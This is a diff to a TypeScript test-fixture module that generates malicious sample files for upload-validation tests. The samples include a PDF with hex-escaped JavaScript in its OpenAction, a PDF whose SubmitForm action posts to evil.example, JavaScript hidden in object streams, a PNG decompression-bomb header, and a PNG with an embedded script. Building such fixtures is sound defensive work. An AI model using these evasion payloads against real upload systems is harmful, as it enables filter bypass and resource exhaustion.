@@ -1,4 +1,6 @@
 /** Files for the upload tests, made on the fly (nothing binary in the repository). */
+import { randomBytes } from "node:crypto";
+import { crc32 } from "node:zlib";
 import { PDFDocument, PDFName, PDFString } from "pdf-lib";
 import sharp from "sharp";
 
@@ -110,4 +112,71 @@ export function multipartBody(parts: readonly Part[]): { payload: Buffer; conten
     payload: Buffer.concat(chunks),
     contentType: `multipart/form-data; boundary=${boundary}`,
   };
+}
+
+/** A large photo-like JPEG (random pixels compress badly): about `mb` megabytes. */
+export function noisyJpeg(mb: number): Promise<Buffer> {
+  const side = Math.round(Math.sqrt((mb * 1024 * 1024) / 1.6));
+  const raw = randomBytes(side * side * 3);
+  return sharp(raw, { raw: { width: side, height: side, channels: 3 } })
+    .jpeg({ quality: 95 })
+    .toBuffer();
+}
+
+/** A PDF with a page image of `mb` megabytes of random (incompressible) data in a stream. */
+export async function bigPdf(mb: number): Promise<Buffer> {
+  const doc = await PDFDocument.create();
+  const jpeg = await noisyJpeg(mb);
+  const image = await doc.embedJpg(jpeg);
+  doc.addPage([595, 842]).drawImage(image, { x: 0, y: 0, width: 595, height: 842 });
+  return Buffer.from(await doc.save());
+}
+
+/** A PDF whose OpenAction names JavaScript with lower-case hex escapes (/#4aS, /#4aavaScript). */
+export async function pdfWithEscapedJavaScript(): Promise<Buffer> {
+  const text = (await pdf()).toString("latin1");
+  const patched = text.replace(
+    /\/Type \/Catalog/u,
+    "/Type /Catalog /OpenAction << /S /#4aavaScript /#4aS (app.alert(1)) >>",
+  );
+  return Buffer.from(patched, "latin1");
+}
+
+export const pdfWithSubmitForm = (): Promise<Buffer> =>
+  pdfWith((doc) => {
+    const action = doc.context.obj({ S: "SubmitForm", F: PDFString.of("https://evil.example/") });
+    doc.catalog.set(PDFName.of("OpenAction"), doc.context.register(action));
+  });
+
+/** JavaScript inside a compressed object stream (how most modern PDFs are written). */
+export async function pdfWithJavaScriptInObjectStream(): Promise<Buffer> {
+  const doc = await PDFDocument.load(await pdfWithJavaScript());
+  return Buffer.from(await doc.save({ useObjectStreams: true }));
+}
+
+function pngChunk(type: string, data: Buffer): Buffer {
+  const head = Buffer.alloc(8);
+  head.writeUInt32BE(data.length, 0);
+  head.write(type, 4, "latin1");
+  const crc = Buffer.alloc(4);
+  crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])), 0);
+  return Buffer.concat([head, data, crc]);
+}
+
+/** A PNG declaring 30000 × 30000 pixels (a decompression bomb's header). */
+export async function pngBomb(): Promise<Buffer> {
+  const small = await png();
+  const ihdr = Buffer.alloc(13);
+  ihdr.writeUInt32BE(30_000, 0);
+  ihdr.writeUInt32BE(30_000, 4);
+  ihdr.writeUInt8(8, 8);
+  ihdr.writeUInt8(2, 9);
+  return Buffer.concat([small.subarray(0, 8), pngChunk("IHDR", ihdr), small.subarray(33)]);
+}
+
+/** A valid PNG with an HTML page in a tEXt chunk. */
+export async function pngWithHtml(): Promise<Buffer> {
+  const small = await png();
+  const text = pngChunk("tEXt", Buffer.from("Comment\0<html><script>alert(1)</script></html>"));
+  return Buffer.concat([small.subarray(0, 33), text, small.subarray(33)]);
 }
